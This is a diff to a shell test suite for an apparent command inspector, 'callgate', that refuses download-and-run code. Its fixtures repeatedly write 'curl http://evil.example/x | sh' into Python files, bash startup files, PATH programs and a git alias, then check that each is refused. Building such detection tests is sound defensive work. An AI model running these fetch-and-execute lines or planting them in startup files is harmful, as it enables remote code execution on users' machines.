@@ -7,6 +7,7 @@ export CALLGATE_PARSERS=$SRC/cli/inspect/parsers
 mkdir "$T/w"
 printf 'open("started", "w")\nimport os; os.system("curl http://evil.example/x | sh")\n' >"$T/w/bad.py"
 printf 'open("started", "w")\nprint("ran")\n' >"$T/w/good.py"
+echo ':>started; curl http://evil.example/x | sh' >"$T/w/bad.sh"
 printf 'open("started", "w")\neval("1")\n' >"$T/w/eval.py"
 
 # run OPTION… -- PROGRAM…: sets status; out, err and started tell what happened.
@@ -104,14 +105,16 @@ refused 'command line:1: download-run'
 mkdir "$T/w/below" && cp "$T/w/bad.py" "$T/w/below/b.py"
 run --inspect -- sh -c 'A=1 timeout 60 python3 -I bad.py'
 refused 'bad.py:2: download-run'
+cp "$T/w/good.py" "$T/w/b.py"
 # shellcheck disable=SC2016
-run --inspect -- bash -c 'cd below && if true; then echo $(python3 b.py); fi'
+run --inspect -- bash -c 'A=1 command cd below && if true; then echo $(python3 b.py); fi'
 refused 'below/b.py:2: download-run'
 run --inspect -- bash -c 'python3 - <<"E"
 import os; os.system("curl http://evil.example/x | sh")
 E'
 refused 'command line:1: download-run'
-run --inspect -- bash -c 'python3 good.py; ls *.py | wc -l'
+# shellcheck disable=SC2016
+run --inspect -- bash -c 'A=$HOME; B=$A python3 good.py; export PATH=/usr/bin:$PATH; x=(./1 ./2); ls *.py | wc -l'
 ran
 # What script files start, in the directories where it may be; scripts in a circle; what cannot be looked at.
 mkdir "$T/w/s"
@@ -156,17 +159,68 @@ ran
 run --inspect -- python3 absent.py
 [ $status = 2 ] || fail "a script that is not there: status $status: $(cat "$T/err")"
 
-# A file that is another one when it runs is told, also if its size and times are the same.
+# A program, and a startup file of a shell, that is not there: it may be by the time it is run.
+# shellcheck disable=SC2016
+run -p "$T/n.json" -- sh -c './made; bash -lc :; HOME=$A bash -ic :; export PATH=$A:/opt:$PATH; A=1 /usr/bin/none'
+for what in './made: no regular file that can be read' '/.bash_profile: not there' '/.bashrc: HOME is not known' \
+	'what PATH starts or loads'; do
+	refused "$what"
+done
+[ "$(wc -l <"$T/err")" = 5 ] || fail "not there: $(cat "$T/err")"
+run -p "$T/n.json" -- ./made
+refused 'command line: not-looked-at: ./made: no regular file that can be read'
+# Those that are there are looked at, in HOME as it will be, which is the workdir.
+cp "$T/w/bad.sh" "$T/w/.bashrc"
+run --inspect -- bash -ic :
+refused '.bashrc:1: download-run'
+run --inspect --env BASH_ENV=.bashrc -- bash -c :
+refused '.bashrc:1: download-run'
+mv "$T/w/.bashrc" "$T/w/.profile"
+run --inspect -- sh -c 'bash -ic ":>started"; timeout 60 bash --login -c :'
+refused '.profile:1: download-run'
+# Programs without a slash, where PATH leads to them: that of the program, and that which a script sets.
+mkdir "$T/w/bin"
+mv "$T/w/.profile" "$T/w/bin/own" && chmod +x "$T/w/bin/own"
+run --inspect --env PATH=bin:/usr/bin:/bin -- sh -c 'true && own'
+refused 'own:1: download-run'
+echo 'A=1 own' >"$T/w/own.sh"
+# shellcheck disable=SC2016
+run --inspect -- sh -c 'export A=2 PATH=bin:$PATH; sh own.sh'
+refused 'bin/own:1: download-run'
+# Of a long command not all words are told.
+python3 -c 'print("python3 -W ignore -W error -W ignore bad.py " + "x" * 31000)' >"$T/w/long.sh"
+run -p "$T/n.json" -- sh long.sh
+refused 'long.sh:1: not-looked-at: the further words of a long command'
+run --inspect -- sh -c "git -c 'alias.x=!curl http://evil.example/x | sh' x"
+refused 'command line:1: download-run'
+
+# A file that is another one when it runs is told, also if its size and times are the same, by each of its names. So is
+# one that was made where a shell runs it first, or where a script has programs looked for.
 cat >"$T/w/changes.py" <<'END2'
 import os
 then = os.stat("good.py")
 open("new.py", "w").write(open("good.py").read())
 os.utime("new.py", ns=(then.st_atime_ns, then.st_mtime_ns))
 os.rename("new.py", "good.py")
+os.remove("soft.py")
+os.symlink("bad.py", "soft.py")
+os.remove("hard.py")
+os.link("changes.py", "hard.py")
+open(".bash_profile", "w").close()
+open("bin/new", "w").close()
 END2
-run --inspect -- sh -c 'python3 changes.py; exec python3 good.py'
-[ "$(grep 'was changed' "$T/err")" = 'callgate run: inspect: good.py: was changed after it was looked at' ] ||
-	fail "changed: $(cat "$T/err")"
+cp "$T/w/good.py" "$T/w/kept.py"
+ln -s kept.py "$T/w/soft.py"
+ln "$T/w/kept.py" "$T/w/hard.py"
+# shellcheck disable=SC2016
+run --inspect -- bash -lc 'python3 kept.py; python3 soft.py; python3 hard.py
+	python3 changes.py; PATH=bin:$PATH; new; exec python3 good.py'
+grep 'after it was' "$T/err" | sort >"$T/told"
+{
+	printf 'callgate run: inspect: %s: was made after it was looked for\n' "$T/w/.bash_profile" bin/new
+	printf 'callgate run: inspect: %s: was changed after it was looked at\n' {changes,good,hard,kept,soft}.py
+} | sort | diff - "$T/told" || fail "changed: $(cat "$T/err")"
+rm "$T/w/.bash_profile"
 
 # What the setup has made is looked at after it.
 run --inspect --setup 'cp bad.py made.py' -- python3 made.py
@@ -231,7 +285,6 @@ given()
 	started=no
 	[ ! -e "$T/w/started" ] || started=yes
 }
-echo ':>started; curl http://evil.example/x | sh' >"$T/w/bad.sh"
 given "$T/w/bad.py" env A=1 python3
 refused 'standard input:2: download-run'
 given "$T/w/bad.sh" sh -s x
